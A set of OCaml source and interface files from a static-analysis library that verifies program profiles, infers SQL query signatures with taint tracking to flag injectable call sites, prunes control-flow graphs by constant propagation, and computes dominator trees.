    Severity levels and their CLI/serving semantics:

    {ul
    {- {!Diag.Error} — the profile cannot belong to this program
       (unreachable symbols, impossible pairs, statically impossible
       trained query signatures). [adprom vet] exits non-zero;
       [Profile_check.apply Enforce] refuses to serve.}
    {- {!Diag.Warning} — a likely defect or training gap (dead code,
       injectable SQL call sites, uncovered symbols/pairs). [adprom vet]
       exits zero unless [--strict] promotes warnings to failing.}
    {- {!Diag.Hint} — advisory coverage notes, today the
       emittable-but-untrained query signatures
       ([qsig-uncovered-signature]). Hints never fail, not even under
       [--strict]: a program typically {e can} emit more signatures
       than any finite training run exercises.}}

    Run {!Taint.analyze} on the CFGs {e before} {!facts} so DB-output
    labels are in place — coverage compares labeled symbols. *)

type facts = {
  entry : string;
  symbols : Symbol.Set.t;
      (** observable library-call symbols of reachable call sites in
          functions reachable from [entry] *)
  pairs : (string * Symbol.t) list;
      (** statically possible (enclosing function, observable call)
          pairs, sorted *)
}

val check_function : Cfg.t -> Diag.t list
(** Intraprocedural checks: dead code, use-before-init,
    undefined callees, no-exit loops. Sorted with {!Diag.compare}. *)

val check_program :
  ?entry:string -> ?static_queries:Qstatic.result -> (string * Cfg.t) list -> Diag.t list
(** All per-function checks plus whole-program ones: a missing [entry]
    function (default ["main"]), functions unreachable from it, and
    [sql-injectable-site] warnings from the static query inference
    (computed on the given CFGs unless a precomputed [static_queries]
    result is passed). Sorted. *)

val facts : ?entry:string -> (string * Cfg.t) list -> facts
(** The statically possible behaviour. When [entry] is absent from
    [cfgs], every function is treated as a root (conservative). *)

val check_qsig_coverage :
  static_queries:Qstatic.result -> trained_signatures:string list -> Diag.t list
(** The query-axis cross-check on its own: trained signatures outside a
    [complete] static set are [qsig-impossible-signature] errors (the
    program provably cannot emit them, so the profile was trained on
    other traffic); statically emittable signatures absent from the
    trained set are [qsig-uncovered-signature] hints. An incomplete
    static set never produces errors. Also runs inside
    {!check_coverage} when both optional arguments are given. *)

val check_coverage :
  ?automaton:(Symbol.t list -> bool) ->
  ?model_ngrams:Symbol.t list list ->
  ?static_queries:Qstatic.result ->
  ?trained_signatures:string list ->
  facts ->
  alphabet:Symbol.t list ->
  known_pairs:(string * Symbol.t) list ->
  Diag.t list
(** Cross-check a profile view against the static facts. The caller is
    responsible for projecting both sides into the profile's label view
    (see [Adprom.Profile_check]). Entry/Exit symbols are ignored.

    When [automaton] (factor membership in the call-sequence automaton,
    e.g. [Seqauto.accepts auto]) and [model_ngrams] (call sequences the
    trained model gives real support, e.g.
    [Adprom.Profile_check.model_bigrams]) are given, the pair check
    generalizes to n-grams: a supported sequence outside the automaton's
    language is a [Warning] ([profile-ngram-impossible]) — the model
    puts real weight on behaviour the program cannot run. Warning and
    not error, because n-gram support is inferred from the trained
    weights (smoothing can lift never-seen sequences above the support
    threshold), unlike the directly-observed alphabet and pair facts. *)

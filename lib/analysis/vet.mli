(** The static verifier behind [adprom vet].

    Sanity checks over the static-analysis artifacts before a program's
    profile is trusted to monitor it. Two halves:

    {ul
    {- {b Program checks} ({!check_function}, {!check_program}):
       unreachable blocks (dead code), variables possibly used before
       initialization, calls to functions that are neither user-defined
       nor in {!Applang.Libspec}, loops with no statically reachable
       exit, and functions never called from the entry point.}
    {- {b Profile coverage} ({!facts}, {!check_coverage}): the
       statically reachable observable symbols and (caller, call) pairs,
       cross-checked against a trained profile's alphabet and known
       pairs. A profile mentioning a symbol or pair the program cannot
       produce is corrupt or was trained for another program ([Error]);
       a reachable symbol or pair the profile never saw is a training
       gap that will flag legitimate behaviour ([Warning]).}}

    Defect classes are {!Diag.t} codes: [dead-code],
    [use-before-init], [undefined-callee], [no-exit-loop], [no-entry],
    [unreachable-function], [profile-symbol-unreachable],
    [profile-pair-impossible], [uncovered-symbol], [uncovered-pair].

    Run {!Taint.analyze} on the CFGs {e before} {!facts} so DB-output
    labels are in place — coverage compares labeled symbols. *)

type facts = {
  entry : string;
  symbols : Symbol.Set.t;
      (** observable library-call symbols of reachable call sites in
          functions reachable from [entry] *)
  pairs : (string * Symbol.t) list;
      (** statically possible (enclosing function, observable call)
          pairs, sorted *)
}

val check_function : Cfg.t -> Diag.t list
(** Intraprocedural checks: dead code, use-before-init,
    undefined callees, no-exit loops. Sorted with {!Diag.compare}. *)

val check_program : ?entry:string -> (string * Cfg.t) list -> Diag.t list
(** All per-function checks plus whole-program ones: a missing [entry]
    function (default ["main"]) and functions unreachable from it.
    Sorted. *)

val facts : ?entry:string -> (string * Cfg.t) list -> facts
(** The statically possible behaviour. When [entry] is absent from
    [cfgs], every function is treated as a root (conservative). *)

val check_coverage :
  ?automaton:(Symbol.t list -> bool) ->
  ?model_ngrams:Symbol.t list list ->
  facts ->
  alphabet:Symbol.t list ->
  known_pairs:(string * Symbol.t) list ->
  Diag.t list
(** Cross-check a profile view against the static facts. The caller is
    responsible for projecting both sides into the profile's label view
    (see [Adprom.Profile_check]). Entry/Exit symbols are ignored.

    When [automaton] (factor membership in the call-sequence automaton,
    e.g. [Seqauto.accepts auto]) and [model_ngrams] (call sequences the
    trained model gives real support, e.g.
    [Adprom.Profile_check.model_bigrams]) are given, the pair check
    generalizes to n-grams: a supported sequence outside the automaton's
    language is a [Warning] ([profile-ngram-impossible]) — the model
    puts real weight on behaviour the program cannot run. Warning and
    not error, because n-gram support is inferred from the trained
    weights (smoothing can lift never-seen sequences above the support
    threshold), unlike the directly-observed alphabet and pair facts. *)

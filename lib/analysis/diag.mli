(** Structured diagnostics emitted by the static verification pass.

    A diagnostic names a defect class (a stable kebab-case [code]), the
    function and code block it anchors to, and a human message. The
    {!Vet} checks produce them; [adprom vet] renders them as text or
    JSON; the serving layer counts them and can refuse a profile on
    [Error]s. *)

type severity =
  | Error  (** the profile or program is certainly wrong; serving refuses *)
  | Warning  (** likely defect; promoted to failing under [vet --strict] *)
  | Hint
      (** advisory coverage note (e.g. an emittable-but-untrained query
          signature); never fails, not even under [--strict] *)

type t = {
  severity : severity;
  code : string;  (** defect class, e.g. ["dead-code"], ["undefined-callee"] *)
  func : string;  (** enclosing function; [""] for program-level findings *)
  block : int option;  (** CFG block id the finding anchors to *)
  message : string;
}

val make : ?func:string -> ?block:int -> severity -> code:string -> string -> t

val severity_to_string : severity -> string

val compare : t -> t -> int
(** By position — function, then block — then code, severity, message:
    a deterministic order that reads like the source. Program-level
    findings ([func = ""]) come first. *)

val errors : t list -> t list
val warnings : t list -> t list
val hints : t list -> t list

val to_string : t -> string
(** [error[undefined-callee] main#4: call to undefined function `frob`]. *)

val to_json : t -> string
(** One JSON object; [block] is [null] when absent. *)

val summary : t list -> string
(** ["2 errors, 1 warning, 3 hints"]; ["clean"] when empty. *)

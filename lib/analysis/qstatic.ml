(* Static query-signature inference: abstract interpretation of SQL
   string construction over the CFGs, using the {!Strdom} template
   domain and the generic {!Dataflow} fixpoint engine. Every
   [pq_exec]/[mysql_query]/[*_prepare] call site gets a finite
   over-approximating set of canonical query signatures, an
   incompleteness flag, and — when attacker-controlled input reaches
   the SQL text itself rather than a bound parameter — an injection
   witness path. *)

module Ast = Applang.Ast
module Libspec = Applang.Libspec
module SS = Set.Make (String)
module SM = Map.Make (String)

type site = {
  func : string;
  block : int;
  callee : string;
  prepare : bool;  (* *_prepare text; executions are parameter-bound *)
  signatures : string list;  (* sorted canonical signatures *)
  open_ : bool;  (* the set may under-approximate *)
  malformed : bool;  (* a constant query text failed to parse *)
  injectable : string list option;  (* taint witness path, source first *)
}

type result = {
  sites : site list;
  signatures : string list;  (* union over sites, sorted *)
  complete : bool;  (* no site is open *)
}

(* SQL text argument index per builtin (both take [conn; sql]). *)
let sql_arg = function
  | "pq_exec" | "mysql_query" -> Some (1, false)
  | "pq_prepare" | "mysql_prepare" -> Some (1, true)
  | _ -> None

(* ------------------------------------------------------------------ *)
(* Abstract evaluation of applang expressions into string templates.
   Mirrors [Runtime.Interp.eval]/[Builtins.dispatch]: [+] concatenates
   via [to_display] whenever a string is involved, int-valued builtins
   produce digit holes (which sanitize injection taint), untrusted
   input builtins produce tainted string holes. *)

let int_hole origin = Strdom.hole ~digits:true ~tainted:false ~origin ()

(* Parse a printf-style format into literal chunks and argument slots,
   matching [Builtins.format_args]. *)
let format_pieces fmt =
  let out = ref [] and buf = Buffer.create (String.length fmt) in
  let flush () =
    if Buffer.length buf > 0 then begin
      out := `Lit (Buffer.contents buf) :: !out;
      Buffer.clear buf
    end
  in
  let n = String.length fmt in
  let i = ref 0 in
  while !i < n do
    if fmt.[!i] = '%' && !i + 1 < n then begin
      (match fmt.[!i + 1] with
      | 's' | 'd' | 'f' ->
          flush ();
          out := `Arg :: !out
      | '%' -> Buffer.add_char buf '%'
      | c ->
          Buffer.add_char buf '%';
          Buffer.add_char buf c);
      i := !i + 2
    end
    else begin
      Buffer.add_char buf fmt.[!i];
      incr i
    end
  done;
  flush ();
  List.rev !out

let rec eval ~summary_of env (e : Ast.expr) : Strdom.value =
  let sub x = eval ~summary_of env x in
  match e with
  | Ast.Int n -> Strdom.const_int n
  | Ast.Str s -> Strdom.const_str s
  | Ast.Bool b -> Strdom.const_other (if b then "true" else "false")
  | Ast.Null -> Strdom.const_other "NULL"
  | Ast.Var x -> ( match SM.find_opt x env with Some v -> v | None -> Strdom.bottom)
  | Ast.Binop ((Ast.Eq | Ast.Ne | Ast.Lt | Ast.Le | Ast.Gt | Ast.Ge | Ast.And | Ast.Or), _, _)
  | Ast.Unop (Ast.Not, _) ->
      Strdom.bool_val
  | Ast.Binop (Ast.Add, a, b) -> (
      let va = sub a and vb = sub b in
      match (Strdom.const_int_opt va, Strdom.const_int_opt vb) with
      | Some x, Some y -> Strdom.const_int (x + y)
      | _ ->
          if Strdom.definitely_int va && Strdom.definitely_int vb then int_hole "+"
          else Strdom.concat va vb)
  | Ast.Binop ((Ast.Sub | Ast.Mul | Ast.Div | Ast.Mod), a, b) -> (
      let va = sub a and vb = sub b in
      match (Strdom.const_int_opt va, Strdom.const_int_opt vb) with
      | Some x, Some y -> (
          match e with
          | Ast.Binop (Ast.Sub, _, _) -> Strdom.const_int (x - y)
          | Ast.Binop (Ast.Mul, _, _) -> Strdom.const_int (x * y)
          | Ast.Binop (Ast.Div, _, _) when y <> 0 -> Strdom.const_int (x / y)
          | Ast.Binop (Ast.Mod, _, _) when y <> 0 -> Strdom.const_int (x mod y)
          | _ -> int_hole "arith")
      | _ -> int_hole "arith")
  | Ast.Unop (Ast.Neg, a) -> (
      match Strdom.const_int_opt (sub a) with
      | Some n -> Strdom.const_int (-n)
      | None -> int_hole "neg")
  | Ast.Index (a, _) ->
      (* DB row cell: unknown string, taint follows the row value. *)
      Strdom.str_hole ~tainted:(Strdom.tainted (sub a)) ~origin:"row-index" ()
  | Ast.Call (name, args) -> eval_call ~summary_of env name args

and eval_call ~summary_of env name args =
  let sub x = eval ~summary_of env x in
  let arg i = match List.nth_opt args i with Some a -> sub a | None -> Strdom.bottom in
  let any_arg_tainted () = List.exists (fun a -> Strdom.tainted (sub a)) args in
  match summary_of name with
  | Some (s : Taint.summary) ->
      (* User function: value unknown; taint from the injection-polarity
         summary. *)
      let tainted =
        s.Taint.const_taint
        || List.exists
             (fun (i, a) ->
               i < Array.length s.Taint.param_taint
               && s.Taint.param_taint.(i)
               && Strdom.tainted (sub a))
             (List.mapi (fun i a -> (i, a)) args)
      in
      Strdom.hole ~tainted ~origin:(name ^ "()") ()
  | None -> (
      match name with
      | "scanf" | "getline" | "fgets" | "http_method" | "http_path" | "http_param" ->
          Strdom.str_hole ~tainted:true ~origin:name ()
      | "scanf_int" | "atoi" | "strlen" | "strcmp" | "rand_int" | "pq_ntuples"
      | "pq_nfields" | "mysql_num_rows" | "mysql_num_fields" | "pq_result_status"
      | "mysql_query" | "system" | "fclose" | "http_respond" | "http_write" | "printf"
      | "fprintf" | "puts" | "fputs" | "fputc" | "fwrite" | "write" ->
          int_hole name
      | "feof" | "str_contains" | "http_next_request" -> Strdom.bool_val
      | "to_string" | "strcpy" -> Strdom.as_string (arg 0)
      | "strcat" -> Strdom.concat (arg 0) (arg 1)
      | "substr" -> Strdom.str_hole ~tainted:(Strdom.tainted (arg 0)) ~origin:"substr" ()
      | "snprintf" ->
          (* Truncation can cut a literal mid-way: opaque. *)
          Strdom.str_hole ~tainted:(any_arg_tainted ()) ~origin:"snprintf" ()
      | "sprintf" -> eval_sprintf ~summary_of env args
      | "pq_getvalue" -> Strdom.str_hole ~tainted:false ~origin:"pq_getvalue" ()
      | "exit" -> Strdom.bottom
      | _ ->
          if Libspec.is_builtin name && String.length name > 4 && String.sub name 0 4 = "lib_"
          then Strdom.const_int 0
          else
            (* Handles (connections, results, cursors, files, ...) and
               anything unknown: an untainted opaque value. *)
            Strdom.hole ~tainted:false ~origin:name ())

and eval_sprintf ~summary_of env args =
  match args with
  | [] -> Strdom.const_str ""
  | fmt :: rest -> (
      match eval ~summary_of env fmt with
      | Strdom.Templates [ { Strdom.pieces = [ Strdom.Lit f ]; _ } ] ->
          let rest = ref (List.map (eval ~summary_of env) rest) in
          let take () =
            match !rest with
            | [] -> Strdom.const_str "" (* missing argument renders empty *)
            | v :: tl ->
                rest := tl;
                v
          in
          List.fold_left
            (fun acc piece ->
              match piece with
              | `Lit s -> Strdom.concat acc (Strdom.const_str s)
              | `Arg -> Strdom.concat acc (take ()))
            (Strdom.const_str "") (format_pieces f)
      | Strdom.Templates [ { Strdom.pieces = []; _ } ] -> Strdom.const_str ""
      | fmt_v ->
          let tainted =
            Strdom.tainted fmt_v
            || List.exists (fun a -> Strdom.tainted (eval ~summary_of env a)) rest
          in
          Strdom.str_hole ~tainted ~origin:"sprintf" ())

(* ------------------------------------------------------------------ *)
(* The per-function dataflow. *)

module Env = struct
  type t = Strdom.value SM.t

  let bottom = SM.empty
  let join = SM.union (fun _ a b -> Some (Strdom.join a b))
  let equal = SM.equal Strdom.equal
end

module Flow = Dataflow.Make (Env)

let solve_function ~summary_of ~entry_flags (cfg : Cfg.t) =
  let entry_env =
    List.fold_left
      (fun (env, i) p ->
        let tainted = i < Array.length entry_flags && entry_flags.(i) in
        ( SM.add p (Strdom.hole ~tainted ~origin:("param " ^ p) ()) env,
          i + 1 ))
      (SM.empty, 0) cfg.Cfg.params
    |> fst
  in
  let transfer (n : Cfg.node) env =
    match n.Cfg.event with
    | Cfg.E_bind (x, e) -> SM.add x (Strdom.bind_origin x (eval ~summary_of env e)) env
    | Cfg.E_entry | Cfg.E_exit | Cfg.E_call _ | Cfg.E_cond _ | Cfg.E_return _ | Cfg.E_join ->
        env
  in
  Flow.solve cfg ~entry:entry_env ~transfer

let reachable_funcs ~entry cfgs =
  if not (List.mem_assoc entry cfgs) then
    List.fold_left (fun acc (name, _) -> SS.add name acc) SS.empty cfgs
  else begin
    let cg = Callgraph.build cfgs in
    let seen = ref (SS.singleton entry) in
    let work = Queue.create () in
    Queue.add entry work;
    while not (Queue.is_empty work) do
      let f = Queue.pop work in
      List.iter
        (fun callee ->
          if not (SS.mem callee !seen) then begin
            seen := SS.add callee !seen;
            Queue.add callee work
          end)
        (Callgraph.callees cg f)
    done;
    !seen
  end

let analyze_site ~summary_of env (id : int) (site : Cfg.call_site) func arg_idx prepare =
  let v =
    match List.nth_opt site.Cfg.args arg_idx with
    | Some e -> eval ~summary_of env e
    | None -> Strdom.bottom
  in
  let sigs = ref SS.empty and opened = ref false and malformed = ref false in
  List.iter
    (fun (r : Strdom.rendering) ->
      if not r.Strdom.exact then opened := true;
      List.iter
        (fun s ->
          match Sqldb.Sql_pp.signature_of_sql s with
          | Some sg -> sigs := SS.add sg !sigs
          | None ->
              if r.Strdom.constant then malformed := true
              else
                (* A hole or repetition hid the real statement shape. *)
                opened := true)
        r.Strdom.strings)
    (Strdom.render v);
  {
    func;
    block = id;
    callee = site.Cfg.callee;
    prepare;
    signatures = SS.elements !sigs;
    open_ = !opened;
    malformed = !malformed;
    injectable = Strdom.witness v;
  }

let infer ?(entry = "main") cfgs =
  let taint =
    Taint.analyze ~lib_taint:Libspec.untrusted_taint_of ~label_sinks:false cfgs
  in
  let summaries = Hashtbl.create 16 in
  List.iter (fun (name, s) -> Hashtbl.replace summaries name s) taint.Taint.summaries;
  let entry_taint = Hashtbl.create 16 in
  List.iter (fun (name, a) -> Hashtbl.replace entry_taint name a) taint.Taint.entry_taint;
  let summary_of name = Hashtbl.find_opt summaries name in
  let live = reachable_funcs ~entry cfgs in
  let sites = ref [] in
  List.iter
    (fun (name, cfg) ->
      if SS.mem name live then begin
        let entry_flags =
          match Hashtbl.find_opt entry_taint name with
          | Some a -> a
          | None -> Array.make (List.length cfg.Cfg.params) false
        in
        let sol = solve_function ~summary_of ~entry_flags cfg in
        List.iter
          (fun (id, site) ->
            match sql_arg site.Cfg.callee with
            | Some (arg_idx, prepare) when Flow.reachable sol id ->
                sites :=
                  analyze_site ~summary_of (Flow.input sol id) id site name arg_idx prepare
                  :: !sites
            | Some _ | None -> ())
          (Cfg.call_nodes cfg)
      end)
    cfgs;
  let sites = List.sort compare !sites in
  let signatures =
    List.fold_left
      (fun acc (s : site) -> List.fold_left (fun a x -> SS.add x a) acc s.signatures)
      SS.empty sites
    |> SS.elements
  in
  { sites; signatures; complete = List.for_all (fun (s : site) -> not s.open_) sites }

module Ast = Applang.Ast
module SM = Map.Make (String)

type report = {
  func : string;
  removed_edges : (int * int) list;
  dead_nodes : int list;
}

(* --- the constant/copy lattice ----------------------------------------- *)

type const = Cint of int | Cbool of bool | Cstr of string | Cnull

type value = Const of const | Alias of string
(* [Alias y]: the variable currently holds the same value as [y].
   Bindings aliasing [y] are killed when [y] is reassigned, so an alias
   is never stale. A variable absent from the map is unknown (top). *)

type env = Bot | Env of value SM.t

module Lattice = struct
  type t = env

  let bottom = Bot

  (* Pointwise intersection of agreeing bindings: a fact survives a join
     only when both paths establish it. *)
  let join a b =
    match (a, b) with
    | Bot, e | e, Bot -> e
    | Env ma, Env mb ->
        Env
          (SM.merge
             (fun _ va vb ->
               match (va, vb) with Some x, Some y when x = y -> Some x | _ -> None)
             ma mb)

  let equal a b =
    match (a, b) with
    | Bot, Bot -> true
    | Env ma, Env mb -> SM.equal ( = ) ma mb
    | Bot, Env _ | Env _, Bot -> false
end

module Flow = Dataflow.Make (Lattice)

(* Follow alias links to a constant or a root variable. Fuel-bounded for
   safety; the kill discipline keeps chains acyclic in practice. *)
let rec resolve m fuel x =
  match SM.find_opt x m with
  | Some (Alias y) when fuel > 0 -> resolve m (fuel - 1) y
  | Some (Const c) -> `Const c
  | Some (Alias _) | None -> `Var x

let rec eval m (e : Ast.expr) =
  match e with
  | Ast.Int n -> Some (Cint n)
  | Ast.Str s -> Some (Cstr s)
  | Ast.Bool b -> Some (Cbool b)
  | Ast.Null -> Some Cnull
  | Ast.Var x -> ( match resolve m 8 x with `Const c -> Some c | `Var _ -> None)
  | Ast.Unop (Ast.Not, a) -> (
      match truth m a with Some b -> Some (Cbool (not b)) | None -> None)
  | Ast.Unop (Ast.Neg, a) -> (
      match eval m a with Some (Cint n) -> Some (Cint (-n)) | _ -> None)
  | Ast.Binop (op, a, b) -> eval_binop m op a b
  | Ast.Call _ | Ast.Index _ -> None

(* Truthiness is only decided for booleans and integers — the forms the
   interpreter (and the rest of the static phase) branch on. *)
and truth m e =
  match eval m e with
  | Some (Cbool b) -> Some b
  | Some (Cint n) -> Some (n <> 0)
  | Some (Cstr _ | Cnull) | None -> None

and eval_binop m op a b =
  let same_root () =
    (* copy propagation proper: [x == y] where both sides resolve to the
       same root variable holds whatever that value is *)
    match (a, b) with
    | Ast.Var x, Ast.Var y -> (
        match (resolve m 8 x, resolve m 8 y) with
        | `Var rx, `Var ry -> rx = ry
        | _ -> false)
    | _ -> false
  in
  match op with
  | Ast.And -> (
      match (truth m a, truth m b) with
      | Some false, _ | _, Some false -> Some (Cbool false)
      | Some true, Some true -> Some (Cbool true)
      | _ -> None)
  | Ast.Or -> (
      match (truth m a, truth m b) with
      | Some true, _ | _, Some true -> Some (Cbool true)
      | Some false, Some false -> Some (Cbool false)
      | _ -> None)
  | Ast.Add | Ast.Sub | Ast.Mul | Ast.Div | Ast.Mod -> (
      match (eval m a, eval m b) with
      | Some (Cint x), Some (Cint y) -> (
          match op with
          | Ast.Add -> Some (Cint (x + y))
          | Ast.Sub -> Some (Cint (x - y))
          | Ast.Mul -> Some (Cint (x * y))
          | Ast.Div -> if y = 0 then None else Some (Cint (x / y))
          | Ast.Mod -> if y = 0 then None else Some (Cint (x mod y))
          | _ -> None)
      | _ -> None)
  | Ast.Eq | Ast.Ne -> (
      if same_root () then Some (Cbool (op = Ast.Eq))
      else
        match (eval m a, eval m b) with
        | Some x, Some y ->
            (* only fold same-constructor comparisons; cross-type
               equality is the interpreter's business *)
            let comparable =
              match (x, y) with
              | Cint _, Cint _ | Cbool _, Cbool _ | Cstr _, Cstr _ | Cnull, Cnull ->
                  true
              | _ -> false
            in
            if comparable then Some (Cbool (if op = Ast.Eq then x = y else x <> y))
            else None
        | _ -> None)
  | Ast.Lt | Ast.Le | Ast.Gt | Ast.Ge -> (
      match (eval m a, eval m b) with
      | Some (Cint x), Some (Cint y) ->
          let r =
            match op with
            | Ast.Lt -> x < y
            | Ast.Le -> x <= y
            | Ast.Gt -> x > y
            | Ast.Ge -> x >= y
            | _ -> false
          in
          Some (Cbool r)
      | _ -> None)

let kill x m = SM.remove x (SM.filter (fun _ v -> v <> Alias x) m)

let transfer (n : Cfg.node) env =
  match env with
  | Bot -> Bot
  | Env m -> (
      match n.Cfg.event with
      | Cfg.E_bind (x, e) ->
          let v =
            match eval m e with
            | Some c -> Some (Const c)
            | None -> (
                match e with
                | Ast.Var y -> (
                    match resolve m 8 y with
                    | `Var r when r <> x -> Some (Alias r)
                    | _ -> None)
                | _ -> None)
          in
          let m = kill x m in
          Env (match v with Some v -> SM.add x v m | None -> m)
      | Cfg.E_entry | Cfg.E_exit | Cfg.E_call _ | Cfg.E_cond _ | Cfg.E_return _
      | Cfg.E_join ->
          Env m)

(* --- edge surgery ------------------------------------------------------- *)

(* Remove one occurrence of [src -> dst]; parallel edges keep their
   remaining multiplicity. *)
let remove_edge_once (cfg : Cfg.t) src dst =
  let remove_first tbl key v =
    match Hashtbl.find_opt tbl key with
    | None -> false
    | Some l ->
        let rec drop = function
          | [] -> None
          | x :: rest when x = v -> Some rest
          | x :: rest -> Option.map (fun r -> x :: r) (drop rest)
        in
        (match drop l with
        | None -> false
        | Some l' ->
            Hashtbl.replace tbl key l';
            true)
  in
  let a = remove_first cfg.Cfg.succs src dst in
  if a then ignore (remove_first cfg.Cfg.preds dst src);
  a

let reachable_from_entry (cfg : Cfg.t) =
  let seen = Hashtbl.create 32 in
  let rec go id =
    if not (Hashtbl.mem seen id) then begin
      Hashtbl.replace seen id ();
      List.iter go (Cfg.successors cfg id)
    end
  in
  if Hashtbl.mem cfg.Cfg.nodes cfg.Cfg.entry then go cfg.Cfg.entry;
  seen

let copy_cfg (cfg : Cfg.t) =
  {
    cfg with
    Cfg.nodes = Hashtbl.copy cfg.Cfg.nodes;
    succs = Hashtbl.copy cfg.Cfg.succs;
    preds = Hashtbl.copy cfg.Cfg.preds;
    back_edges = cfg.Cfg.back_edges;
    branches = cfg.Cfg.branches;
  }

(* Drop nodes unreachable from the entry, with their edges. *)
let drop_dead (cfg : Cfg.t) =
  let live = reachable_from_entry cfg in
  let dead =
    List.filter (fun id -> not (Hashtbl.mem live id)) (Cfg.node_ids cfg)
  in
  if dead <> [] then begin
    List.iter
      (fun id ->
        Hashtbl.remove cfg.Cfg.nodes id;
        Hashtbl.remove cfg.Cfg.succs id;
        Hashtbl.remove cfg.Cfg.preds id)
      dead;
    let is_live id = Hashtbl.mem live id in
    Hashtbl.iter
      (fun id preds ->
        let preds' = List.filter is_live preds in
        if List.length preds' <> List.length preds then
          Hashtbl.replace cfg.Cfg.preds id preds')
      (Hashtbl.copy cfg.Cfg.preds);
    cfg.Cfg.back_edges <-
      List.filter (fun (a, b) -> is_live a && is_live b) cfg.Cfg.back_edges;
    cfg.Cfg.branches <-
      List.filter (fun b -> is_live b.Cfg.cond) cfg.Cfg.branches
  end;
  dead

(* One propagate-and-prune round; returns the removed edges. *)
let prune_round (cfg : Cfg.t) =
  let sol = Flow.solve ~with_back_edges:true cfg ~entry:(Env SM.empty) ~transfer in
  let removed = ref [] in
  let remove src dst =
    if remove_edge_once cfg src dst then removed := (src, dst) :: !removed
  in
  List.iter
    (fun (b : Cfg.branch) ->
      (* out-degree < 2 means an arm was already removed in an earlier
         round: the branch is decided, nothing more to take (and with
         parallel same-target arms a second removal would sever the
         surviving one) *)
      if
        Hashtbl.mem cfg.Cfg.nodes b.Cfg.cond
        && Cfg.out_degree cfg b.Cfg.cond >= 2
        && Flow.reachable sol b.Cfg.cond
      then
        match (Cfg.node cfg b.Cfg.cond).Cfg.event with
        | Cfg.E_cond e -> (
            let m =
              match Flow.input sol b.Cfg.cond with Env m -> m | Bot -> SM.empty
            in
            match truth m e with
            | Some true ->
                remove b.Cfg.cond b.Cfg.if_false;
                (* a constantly-true loop is only ever left through a
                   [break]: the latch fall-throughs to the exit join are
                   as dead as the header's false edge *)
                List.iter
                  (fun (latch, header) ->
                    if header = b.Cfg.cond then remove latch b.Cfg.if_false)
                  cfg.Cfg.back_edges
            | Some false -> remove b.Cfg.cond b.Cfg.if_true
            | None -> ())
        | _ -> ())
    cfg.Cfg.branches;
  !removed

let function_cfg (cfg : Cfg.t) =
  let work = copy_cfg cfg in
  let removed = ref [] and dead = ref [] in
  let rec fixpoint budget =
    if budget > 0 then begin
      let r = prune_round work in
      if r <> [] then begin
        removed := !removed @ r;
        dead := !dead @ drop_dead work;
        fixpoint (budget - 1)
      end
    end
  in
  fixpoint (List.length cfg.Cfg.branches + 1);
  if !removed = [] then (cfg, { func = cfg.Cfg.func; removed_edges = []; dead_nodes = [] })
  else
    ( work,
      {
        func = cfg.Cfg.func;
        removed_edges = List.rev !removed;
        dead_nodes = List.sort compare !dead;
      } )

let program cfgs =
  let pruned = List.map (fun (name, cfg) -> (name, function_cfg cfg)) cfgs in
  ( List.map (fun (name, (cfg, _)) -> (name, cfg)) pruned,
    List.map (fun (_, (_, r)) -> r) pruned )

let total_removed reports =
  List.fold_left (fun acc r -> acc + List.length r.removed_edges) 0 reports

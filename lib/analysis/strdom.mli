(** Abstract string domain for static SQL-template inference.

    A value over-approximates the set of strings an applang expression
    can evaluate to, as a finite disjunction of {e templates}: literal
    fragments interleaved with typed parameter {e holes} (unknown
    interpolated values, carrying an injection-taint bit and a
    provenance chain) and {e repetition classes} ([Rep]) introduced by
    loop widening. Joins widen growth chains — a template extending
    another by a suffix collapses to [prefix ++ Rep suffix] — and every
    cap (template count, piece count, render fan-out) degrades towards
    {!any}, never towards dropping a behavior.

    The exactness contract: holes stand for {e literal-shaped} runtime
    values (rendering as an SQL literal, not as structure). Rendering a
    digit hole as [0] and an in-quote string hole as the empty string
    preserves the erased query signature for every such value; a string
    hole in structural position makes the rendering inexact, as does a
    nested repetition or any cap overflow. *)

type hole = {
  tainted : bool;  (** may carry attacker-controlled input *)
  digits : bool;  (** renders as digits only (int-valued) *)
  origin : string list;  (** provenance chain, latest binding first *)
}

type piece =
  | Lit of string
  | Hole of hole
  | Rep of piece list  (** the sequence repeated zero or more times *)

type kind = K_int | K_str | K_other

type tmpl = { kind : kind; pieces : piece list }

type value =
  | Templates of tmpl list  (** finite disjunction; [[]] is bottom *)
  | Any of bool  (** top; payload: may be tainted *)

val bottom : value
val any : tainted:bool -> value
val const_str : string -> value
val const_int : int -> value

val const_other : string -> value
(** A known non-int, non-string display ([true], [NULL], ...). *)

val bool_val : value
(** The two boolean displays, [true] and [false]. *)

val hole : ?digits:bool -> tainted:bool -> origin:string -> unit -> value
(** A single unknown value; [digits] marks it int-valued ([K_int]). *)

val str_hole : tainted:bool -> origin:string -> unit -> value
(** An unknown string-typed value ([K_str]). *)

val equal : value -> value -> bool
(** Structural, ignoring hole provenance (required for the dataflow
    fixpoint to converge while origins accumulate). *)

val join : value -> value -> value
val concat : value -> value -> value
(** String concatenation with [to_display] coercion on both sides. *)

val as_string : value -> value
(** Retype every template as [K_str], keeping the pieces
    ([to_string] / [strcpy] semantics). *)

val const_int_opt : value -> int option
(** The single constant-int template, if that is all the value holds. *)

val definitely_int : value -> bool
(** Every disjunct is int-kinded (so [+] is arithmetic, not concat). *)

val tainted : value -> bool
val witness : value -> string list option
(** Provenance of some tainted hole, source first. *)

val bind_origin : string -> value -> value
(** Record a binding to the named variable in hole provenance. *)

type rendering = {
  strings : string list;  (** candidate concrete texts, deduplicated *)
  exact : bool;  (** renders cover every literal-shaped instantiation *)
  constant : bool;  (** the template was a single literal string *)
}

val render : value -> rendering list
(** One rendering per template ([Any] yields a single inexact, empty
    rendering). *)

(** Dominator tree of a {!Cfg}.

    Computed on the {e full} flow graph — the acyclic successor relation
    with the recorded loop back edges restored — using the
    Cooper–Harvey–Kennedy iterative algorithm over a reverse postorder,
    which converges in a couple of passes on reducible graphs (and all
    AppLang CFGs are reducible by construction).

    Node [a] dominates node [b] when every path from the function entry
    to [b] passes through [a]. The natural-loop analysis ({!Loops}) is
    the main client: a recorded back edge [(l, h)] is a genuine loop
    back edge exactly when [h] dominates [l]. *)

type t

val compute : Cfg.t -> t

val idom : t -> int -> int option
(** Immediate dominator; [None] for the entry node and for nodes
    unreachable from the entry. *)

val dominates : t -> int -> int -> bool
(** [dominates t a b]: does [a] dominate [b]? Reflexive on reachable
    nodes; [false] whenever [b] is unreachable. *)

val children : t -> int -> int list
(** Dominator-tree children, ascending. *)

val reachable : t -> int -> bool
(** Reachable from the entry through the full flow graph. *)

val dominators : t -> int -> int list
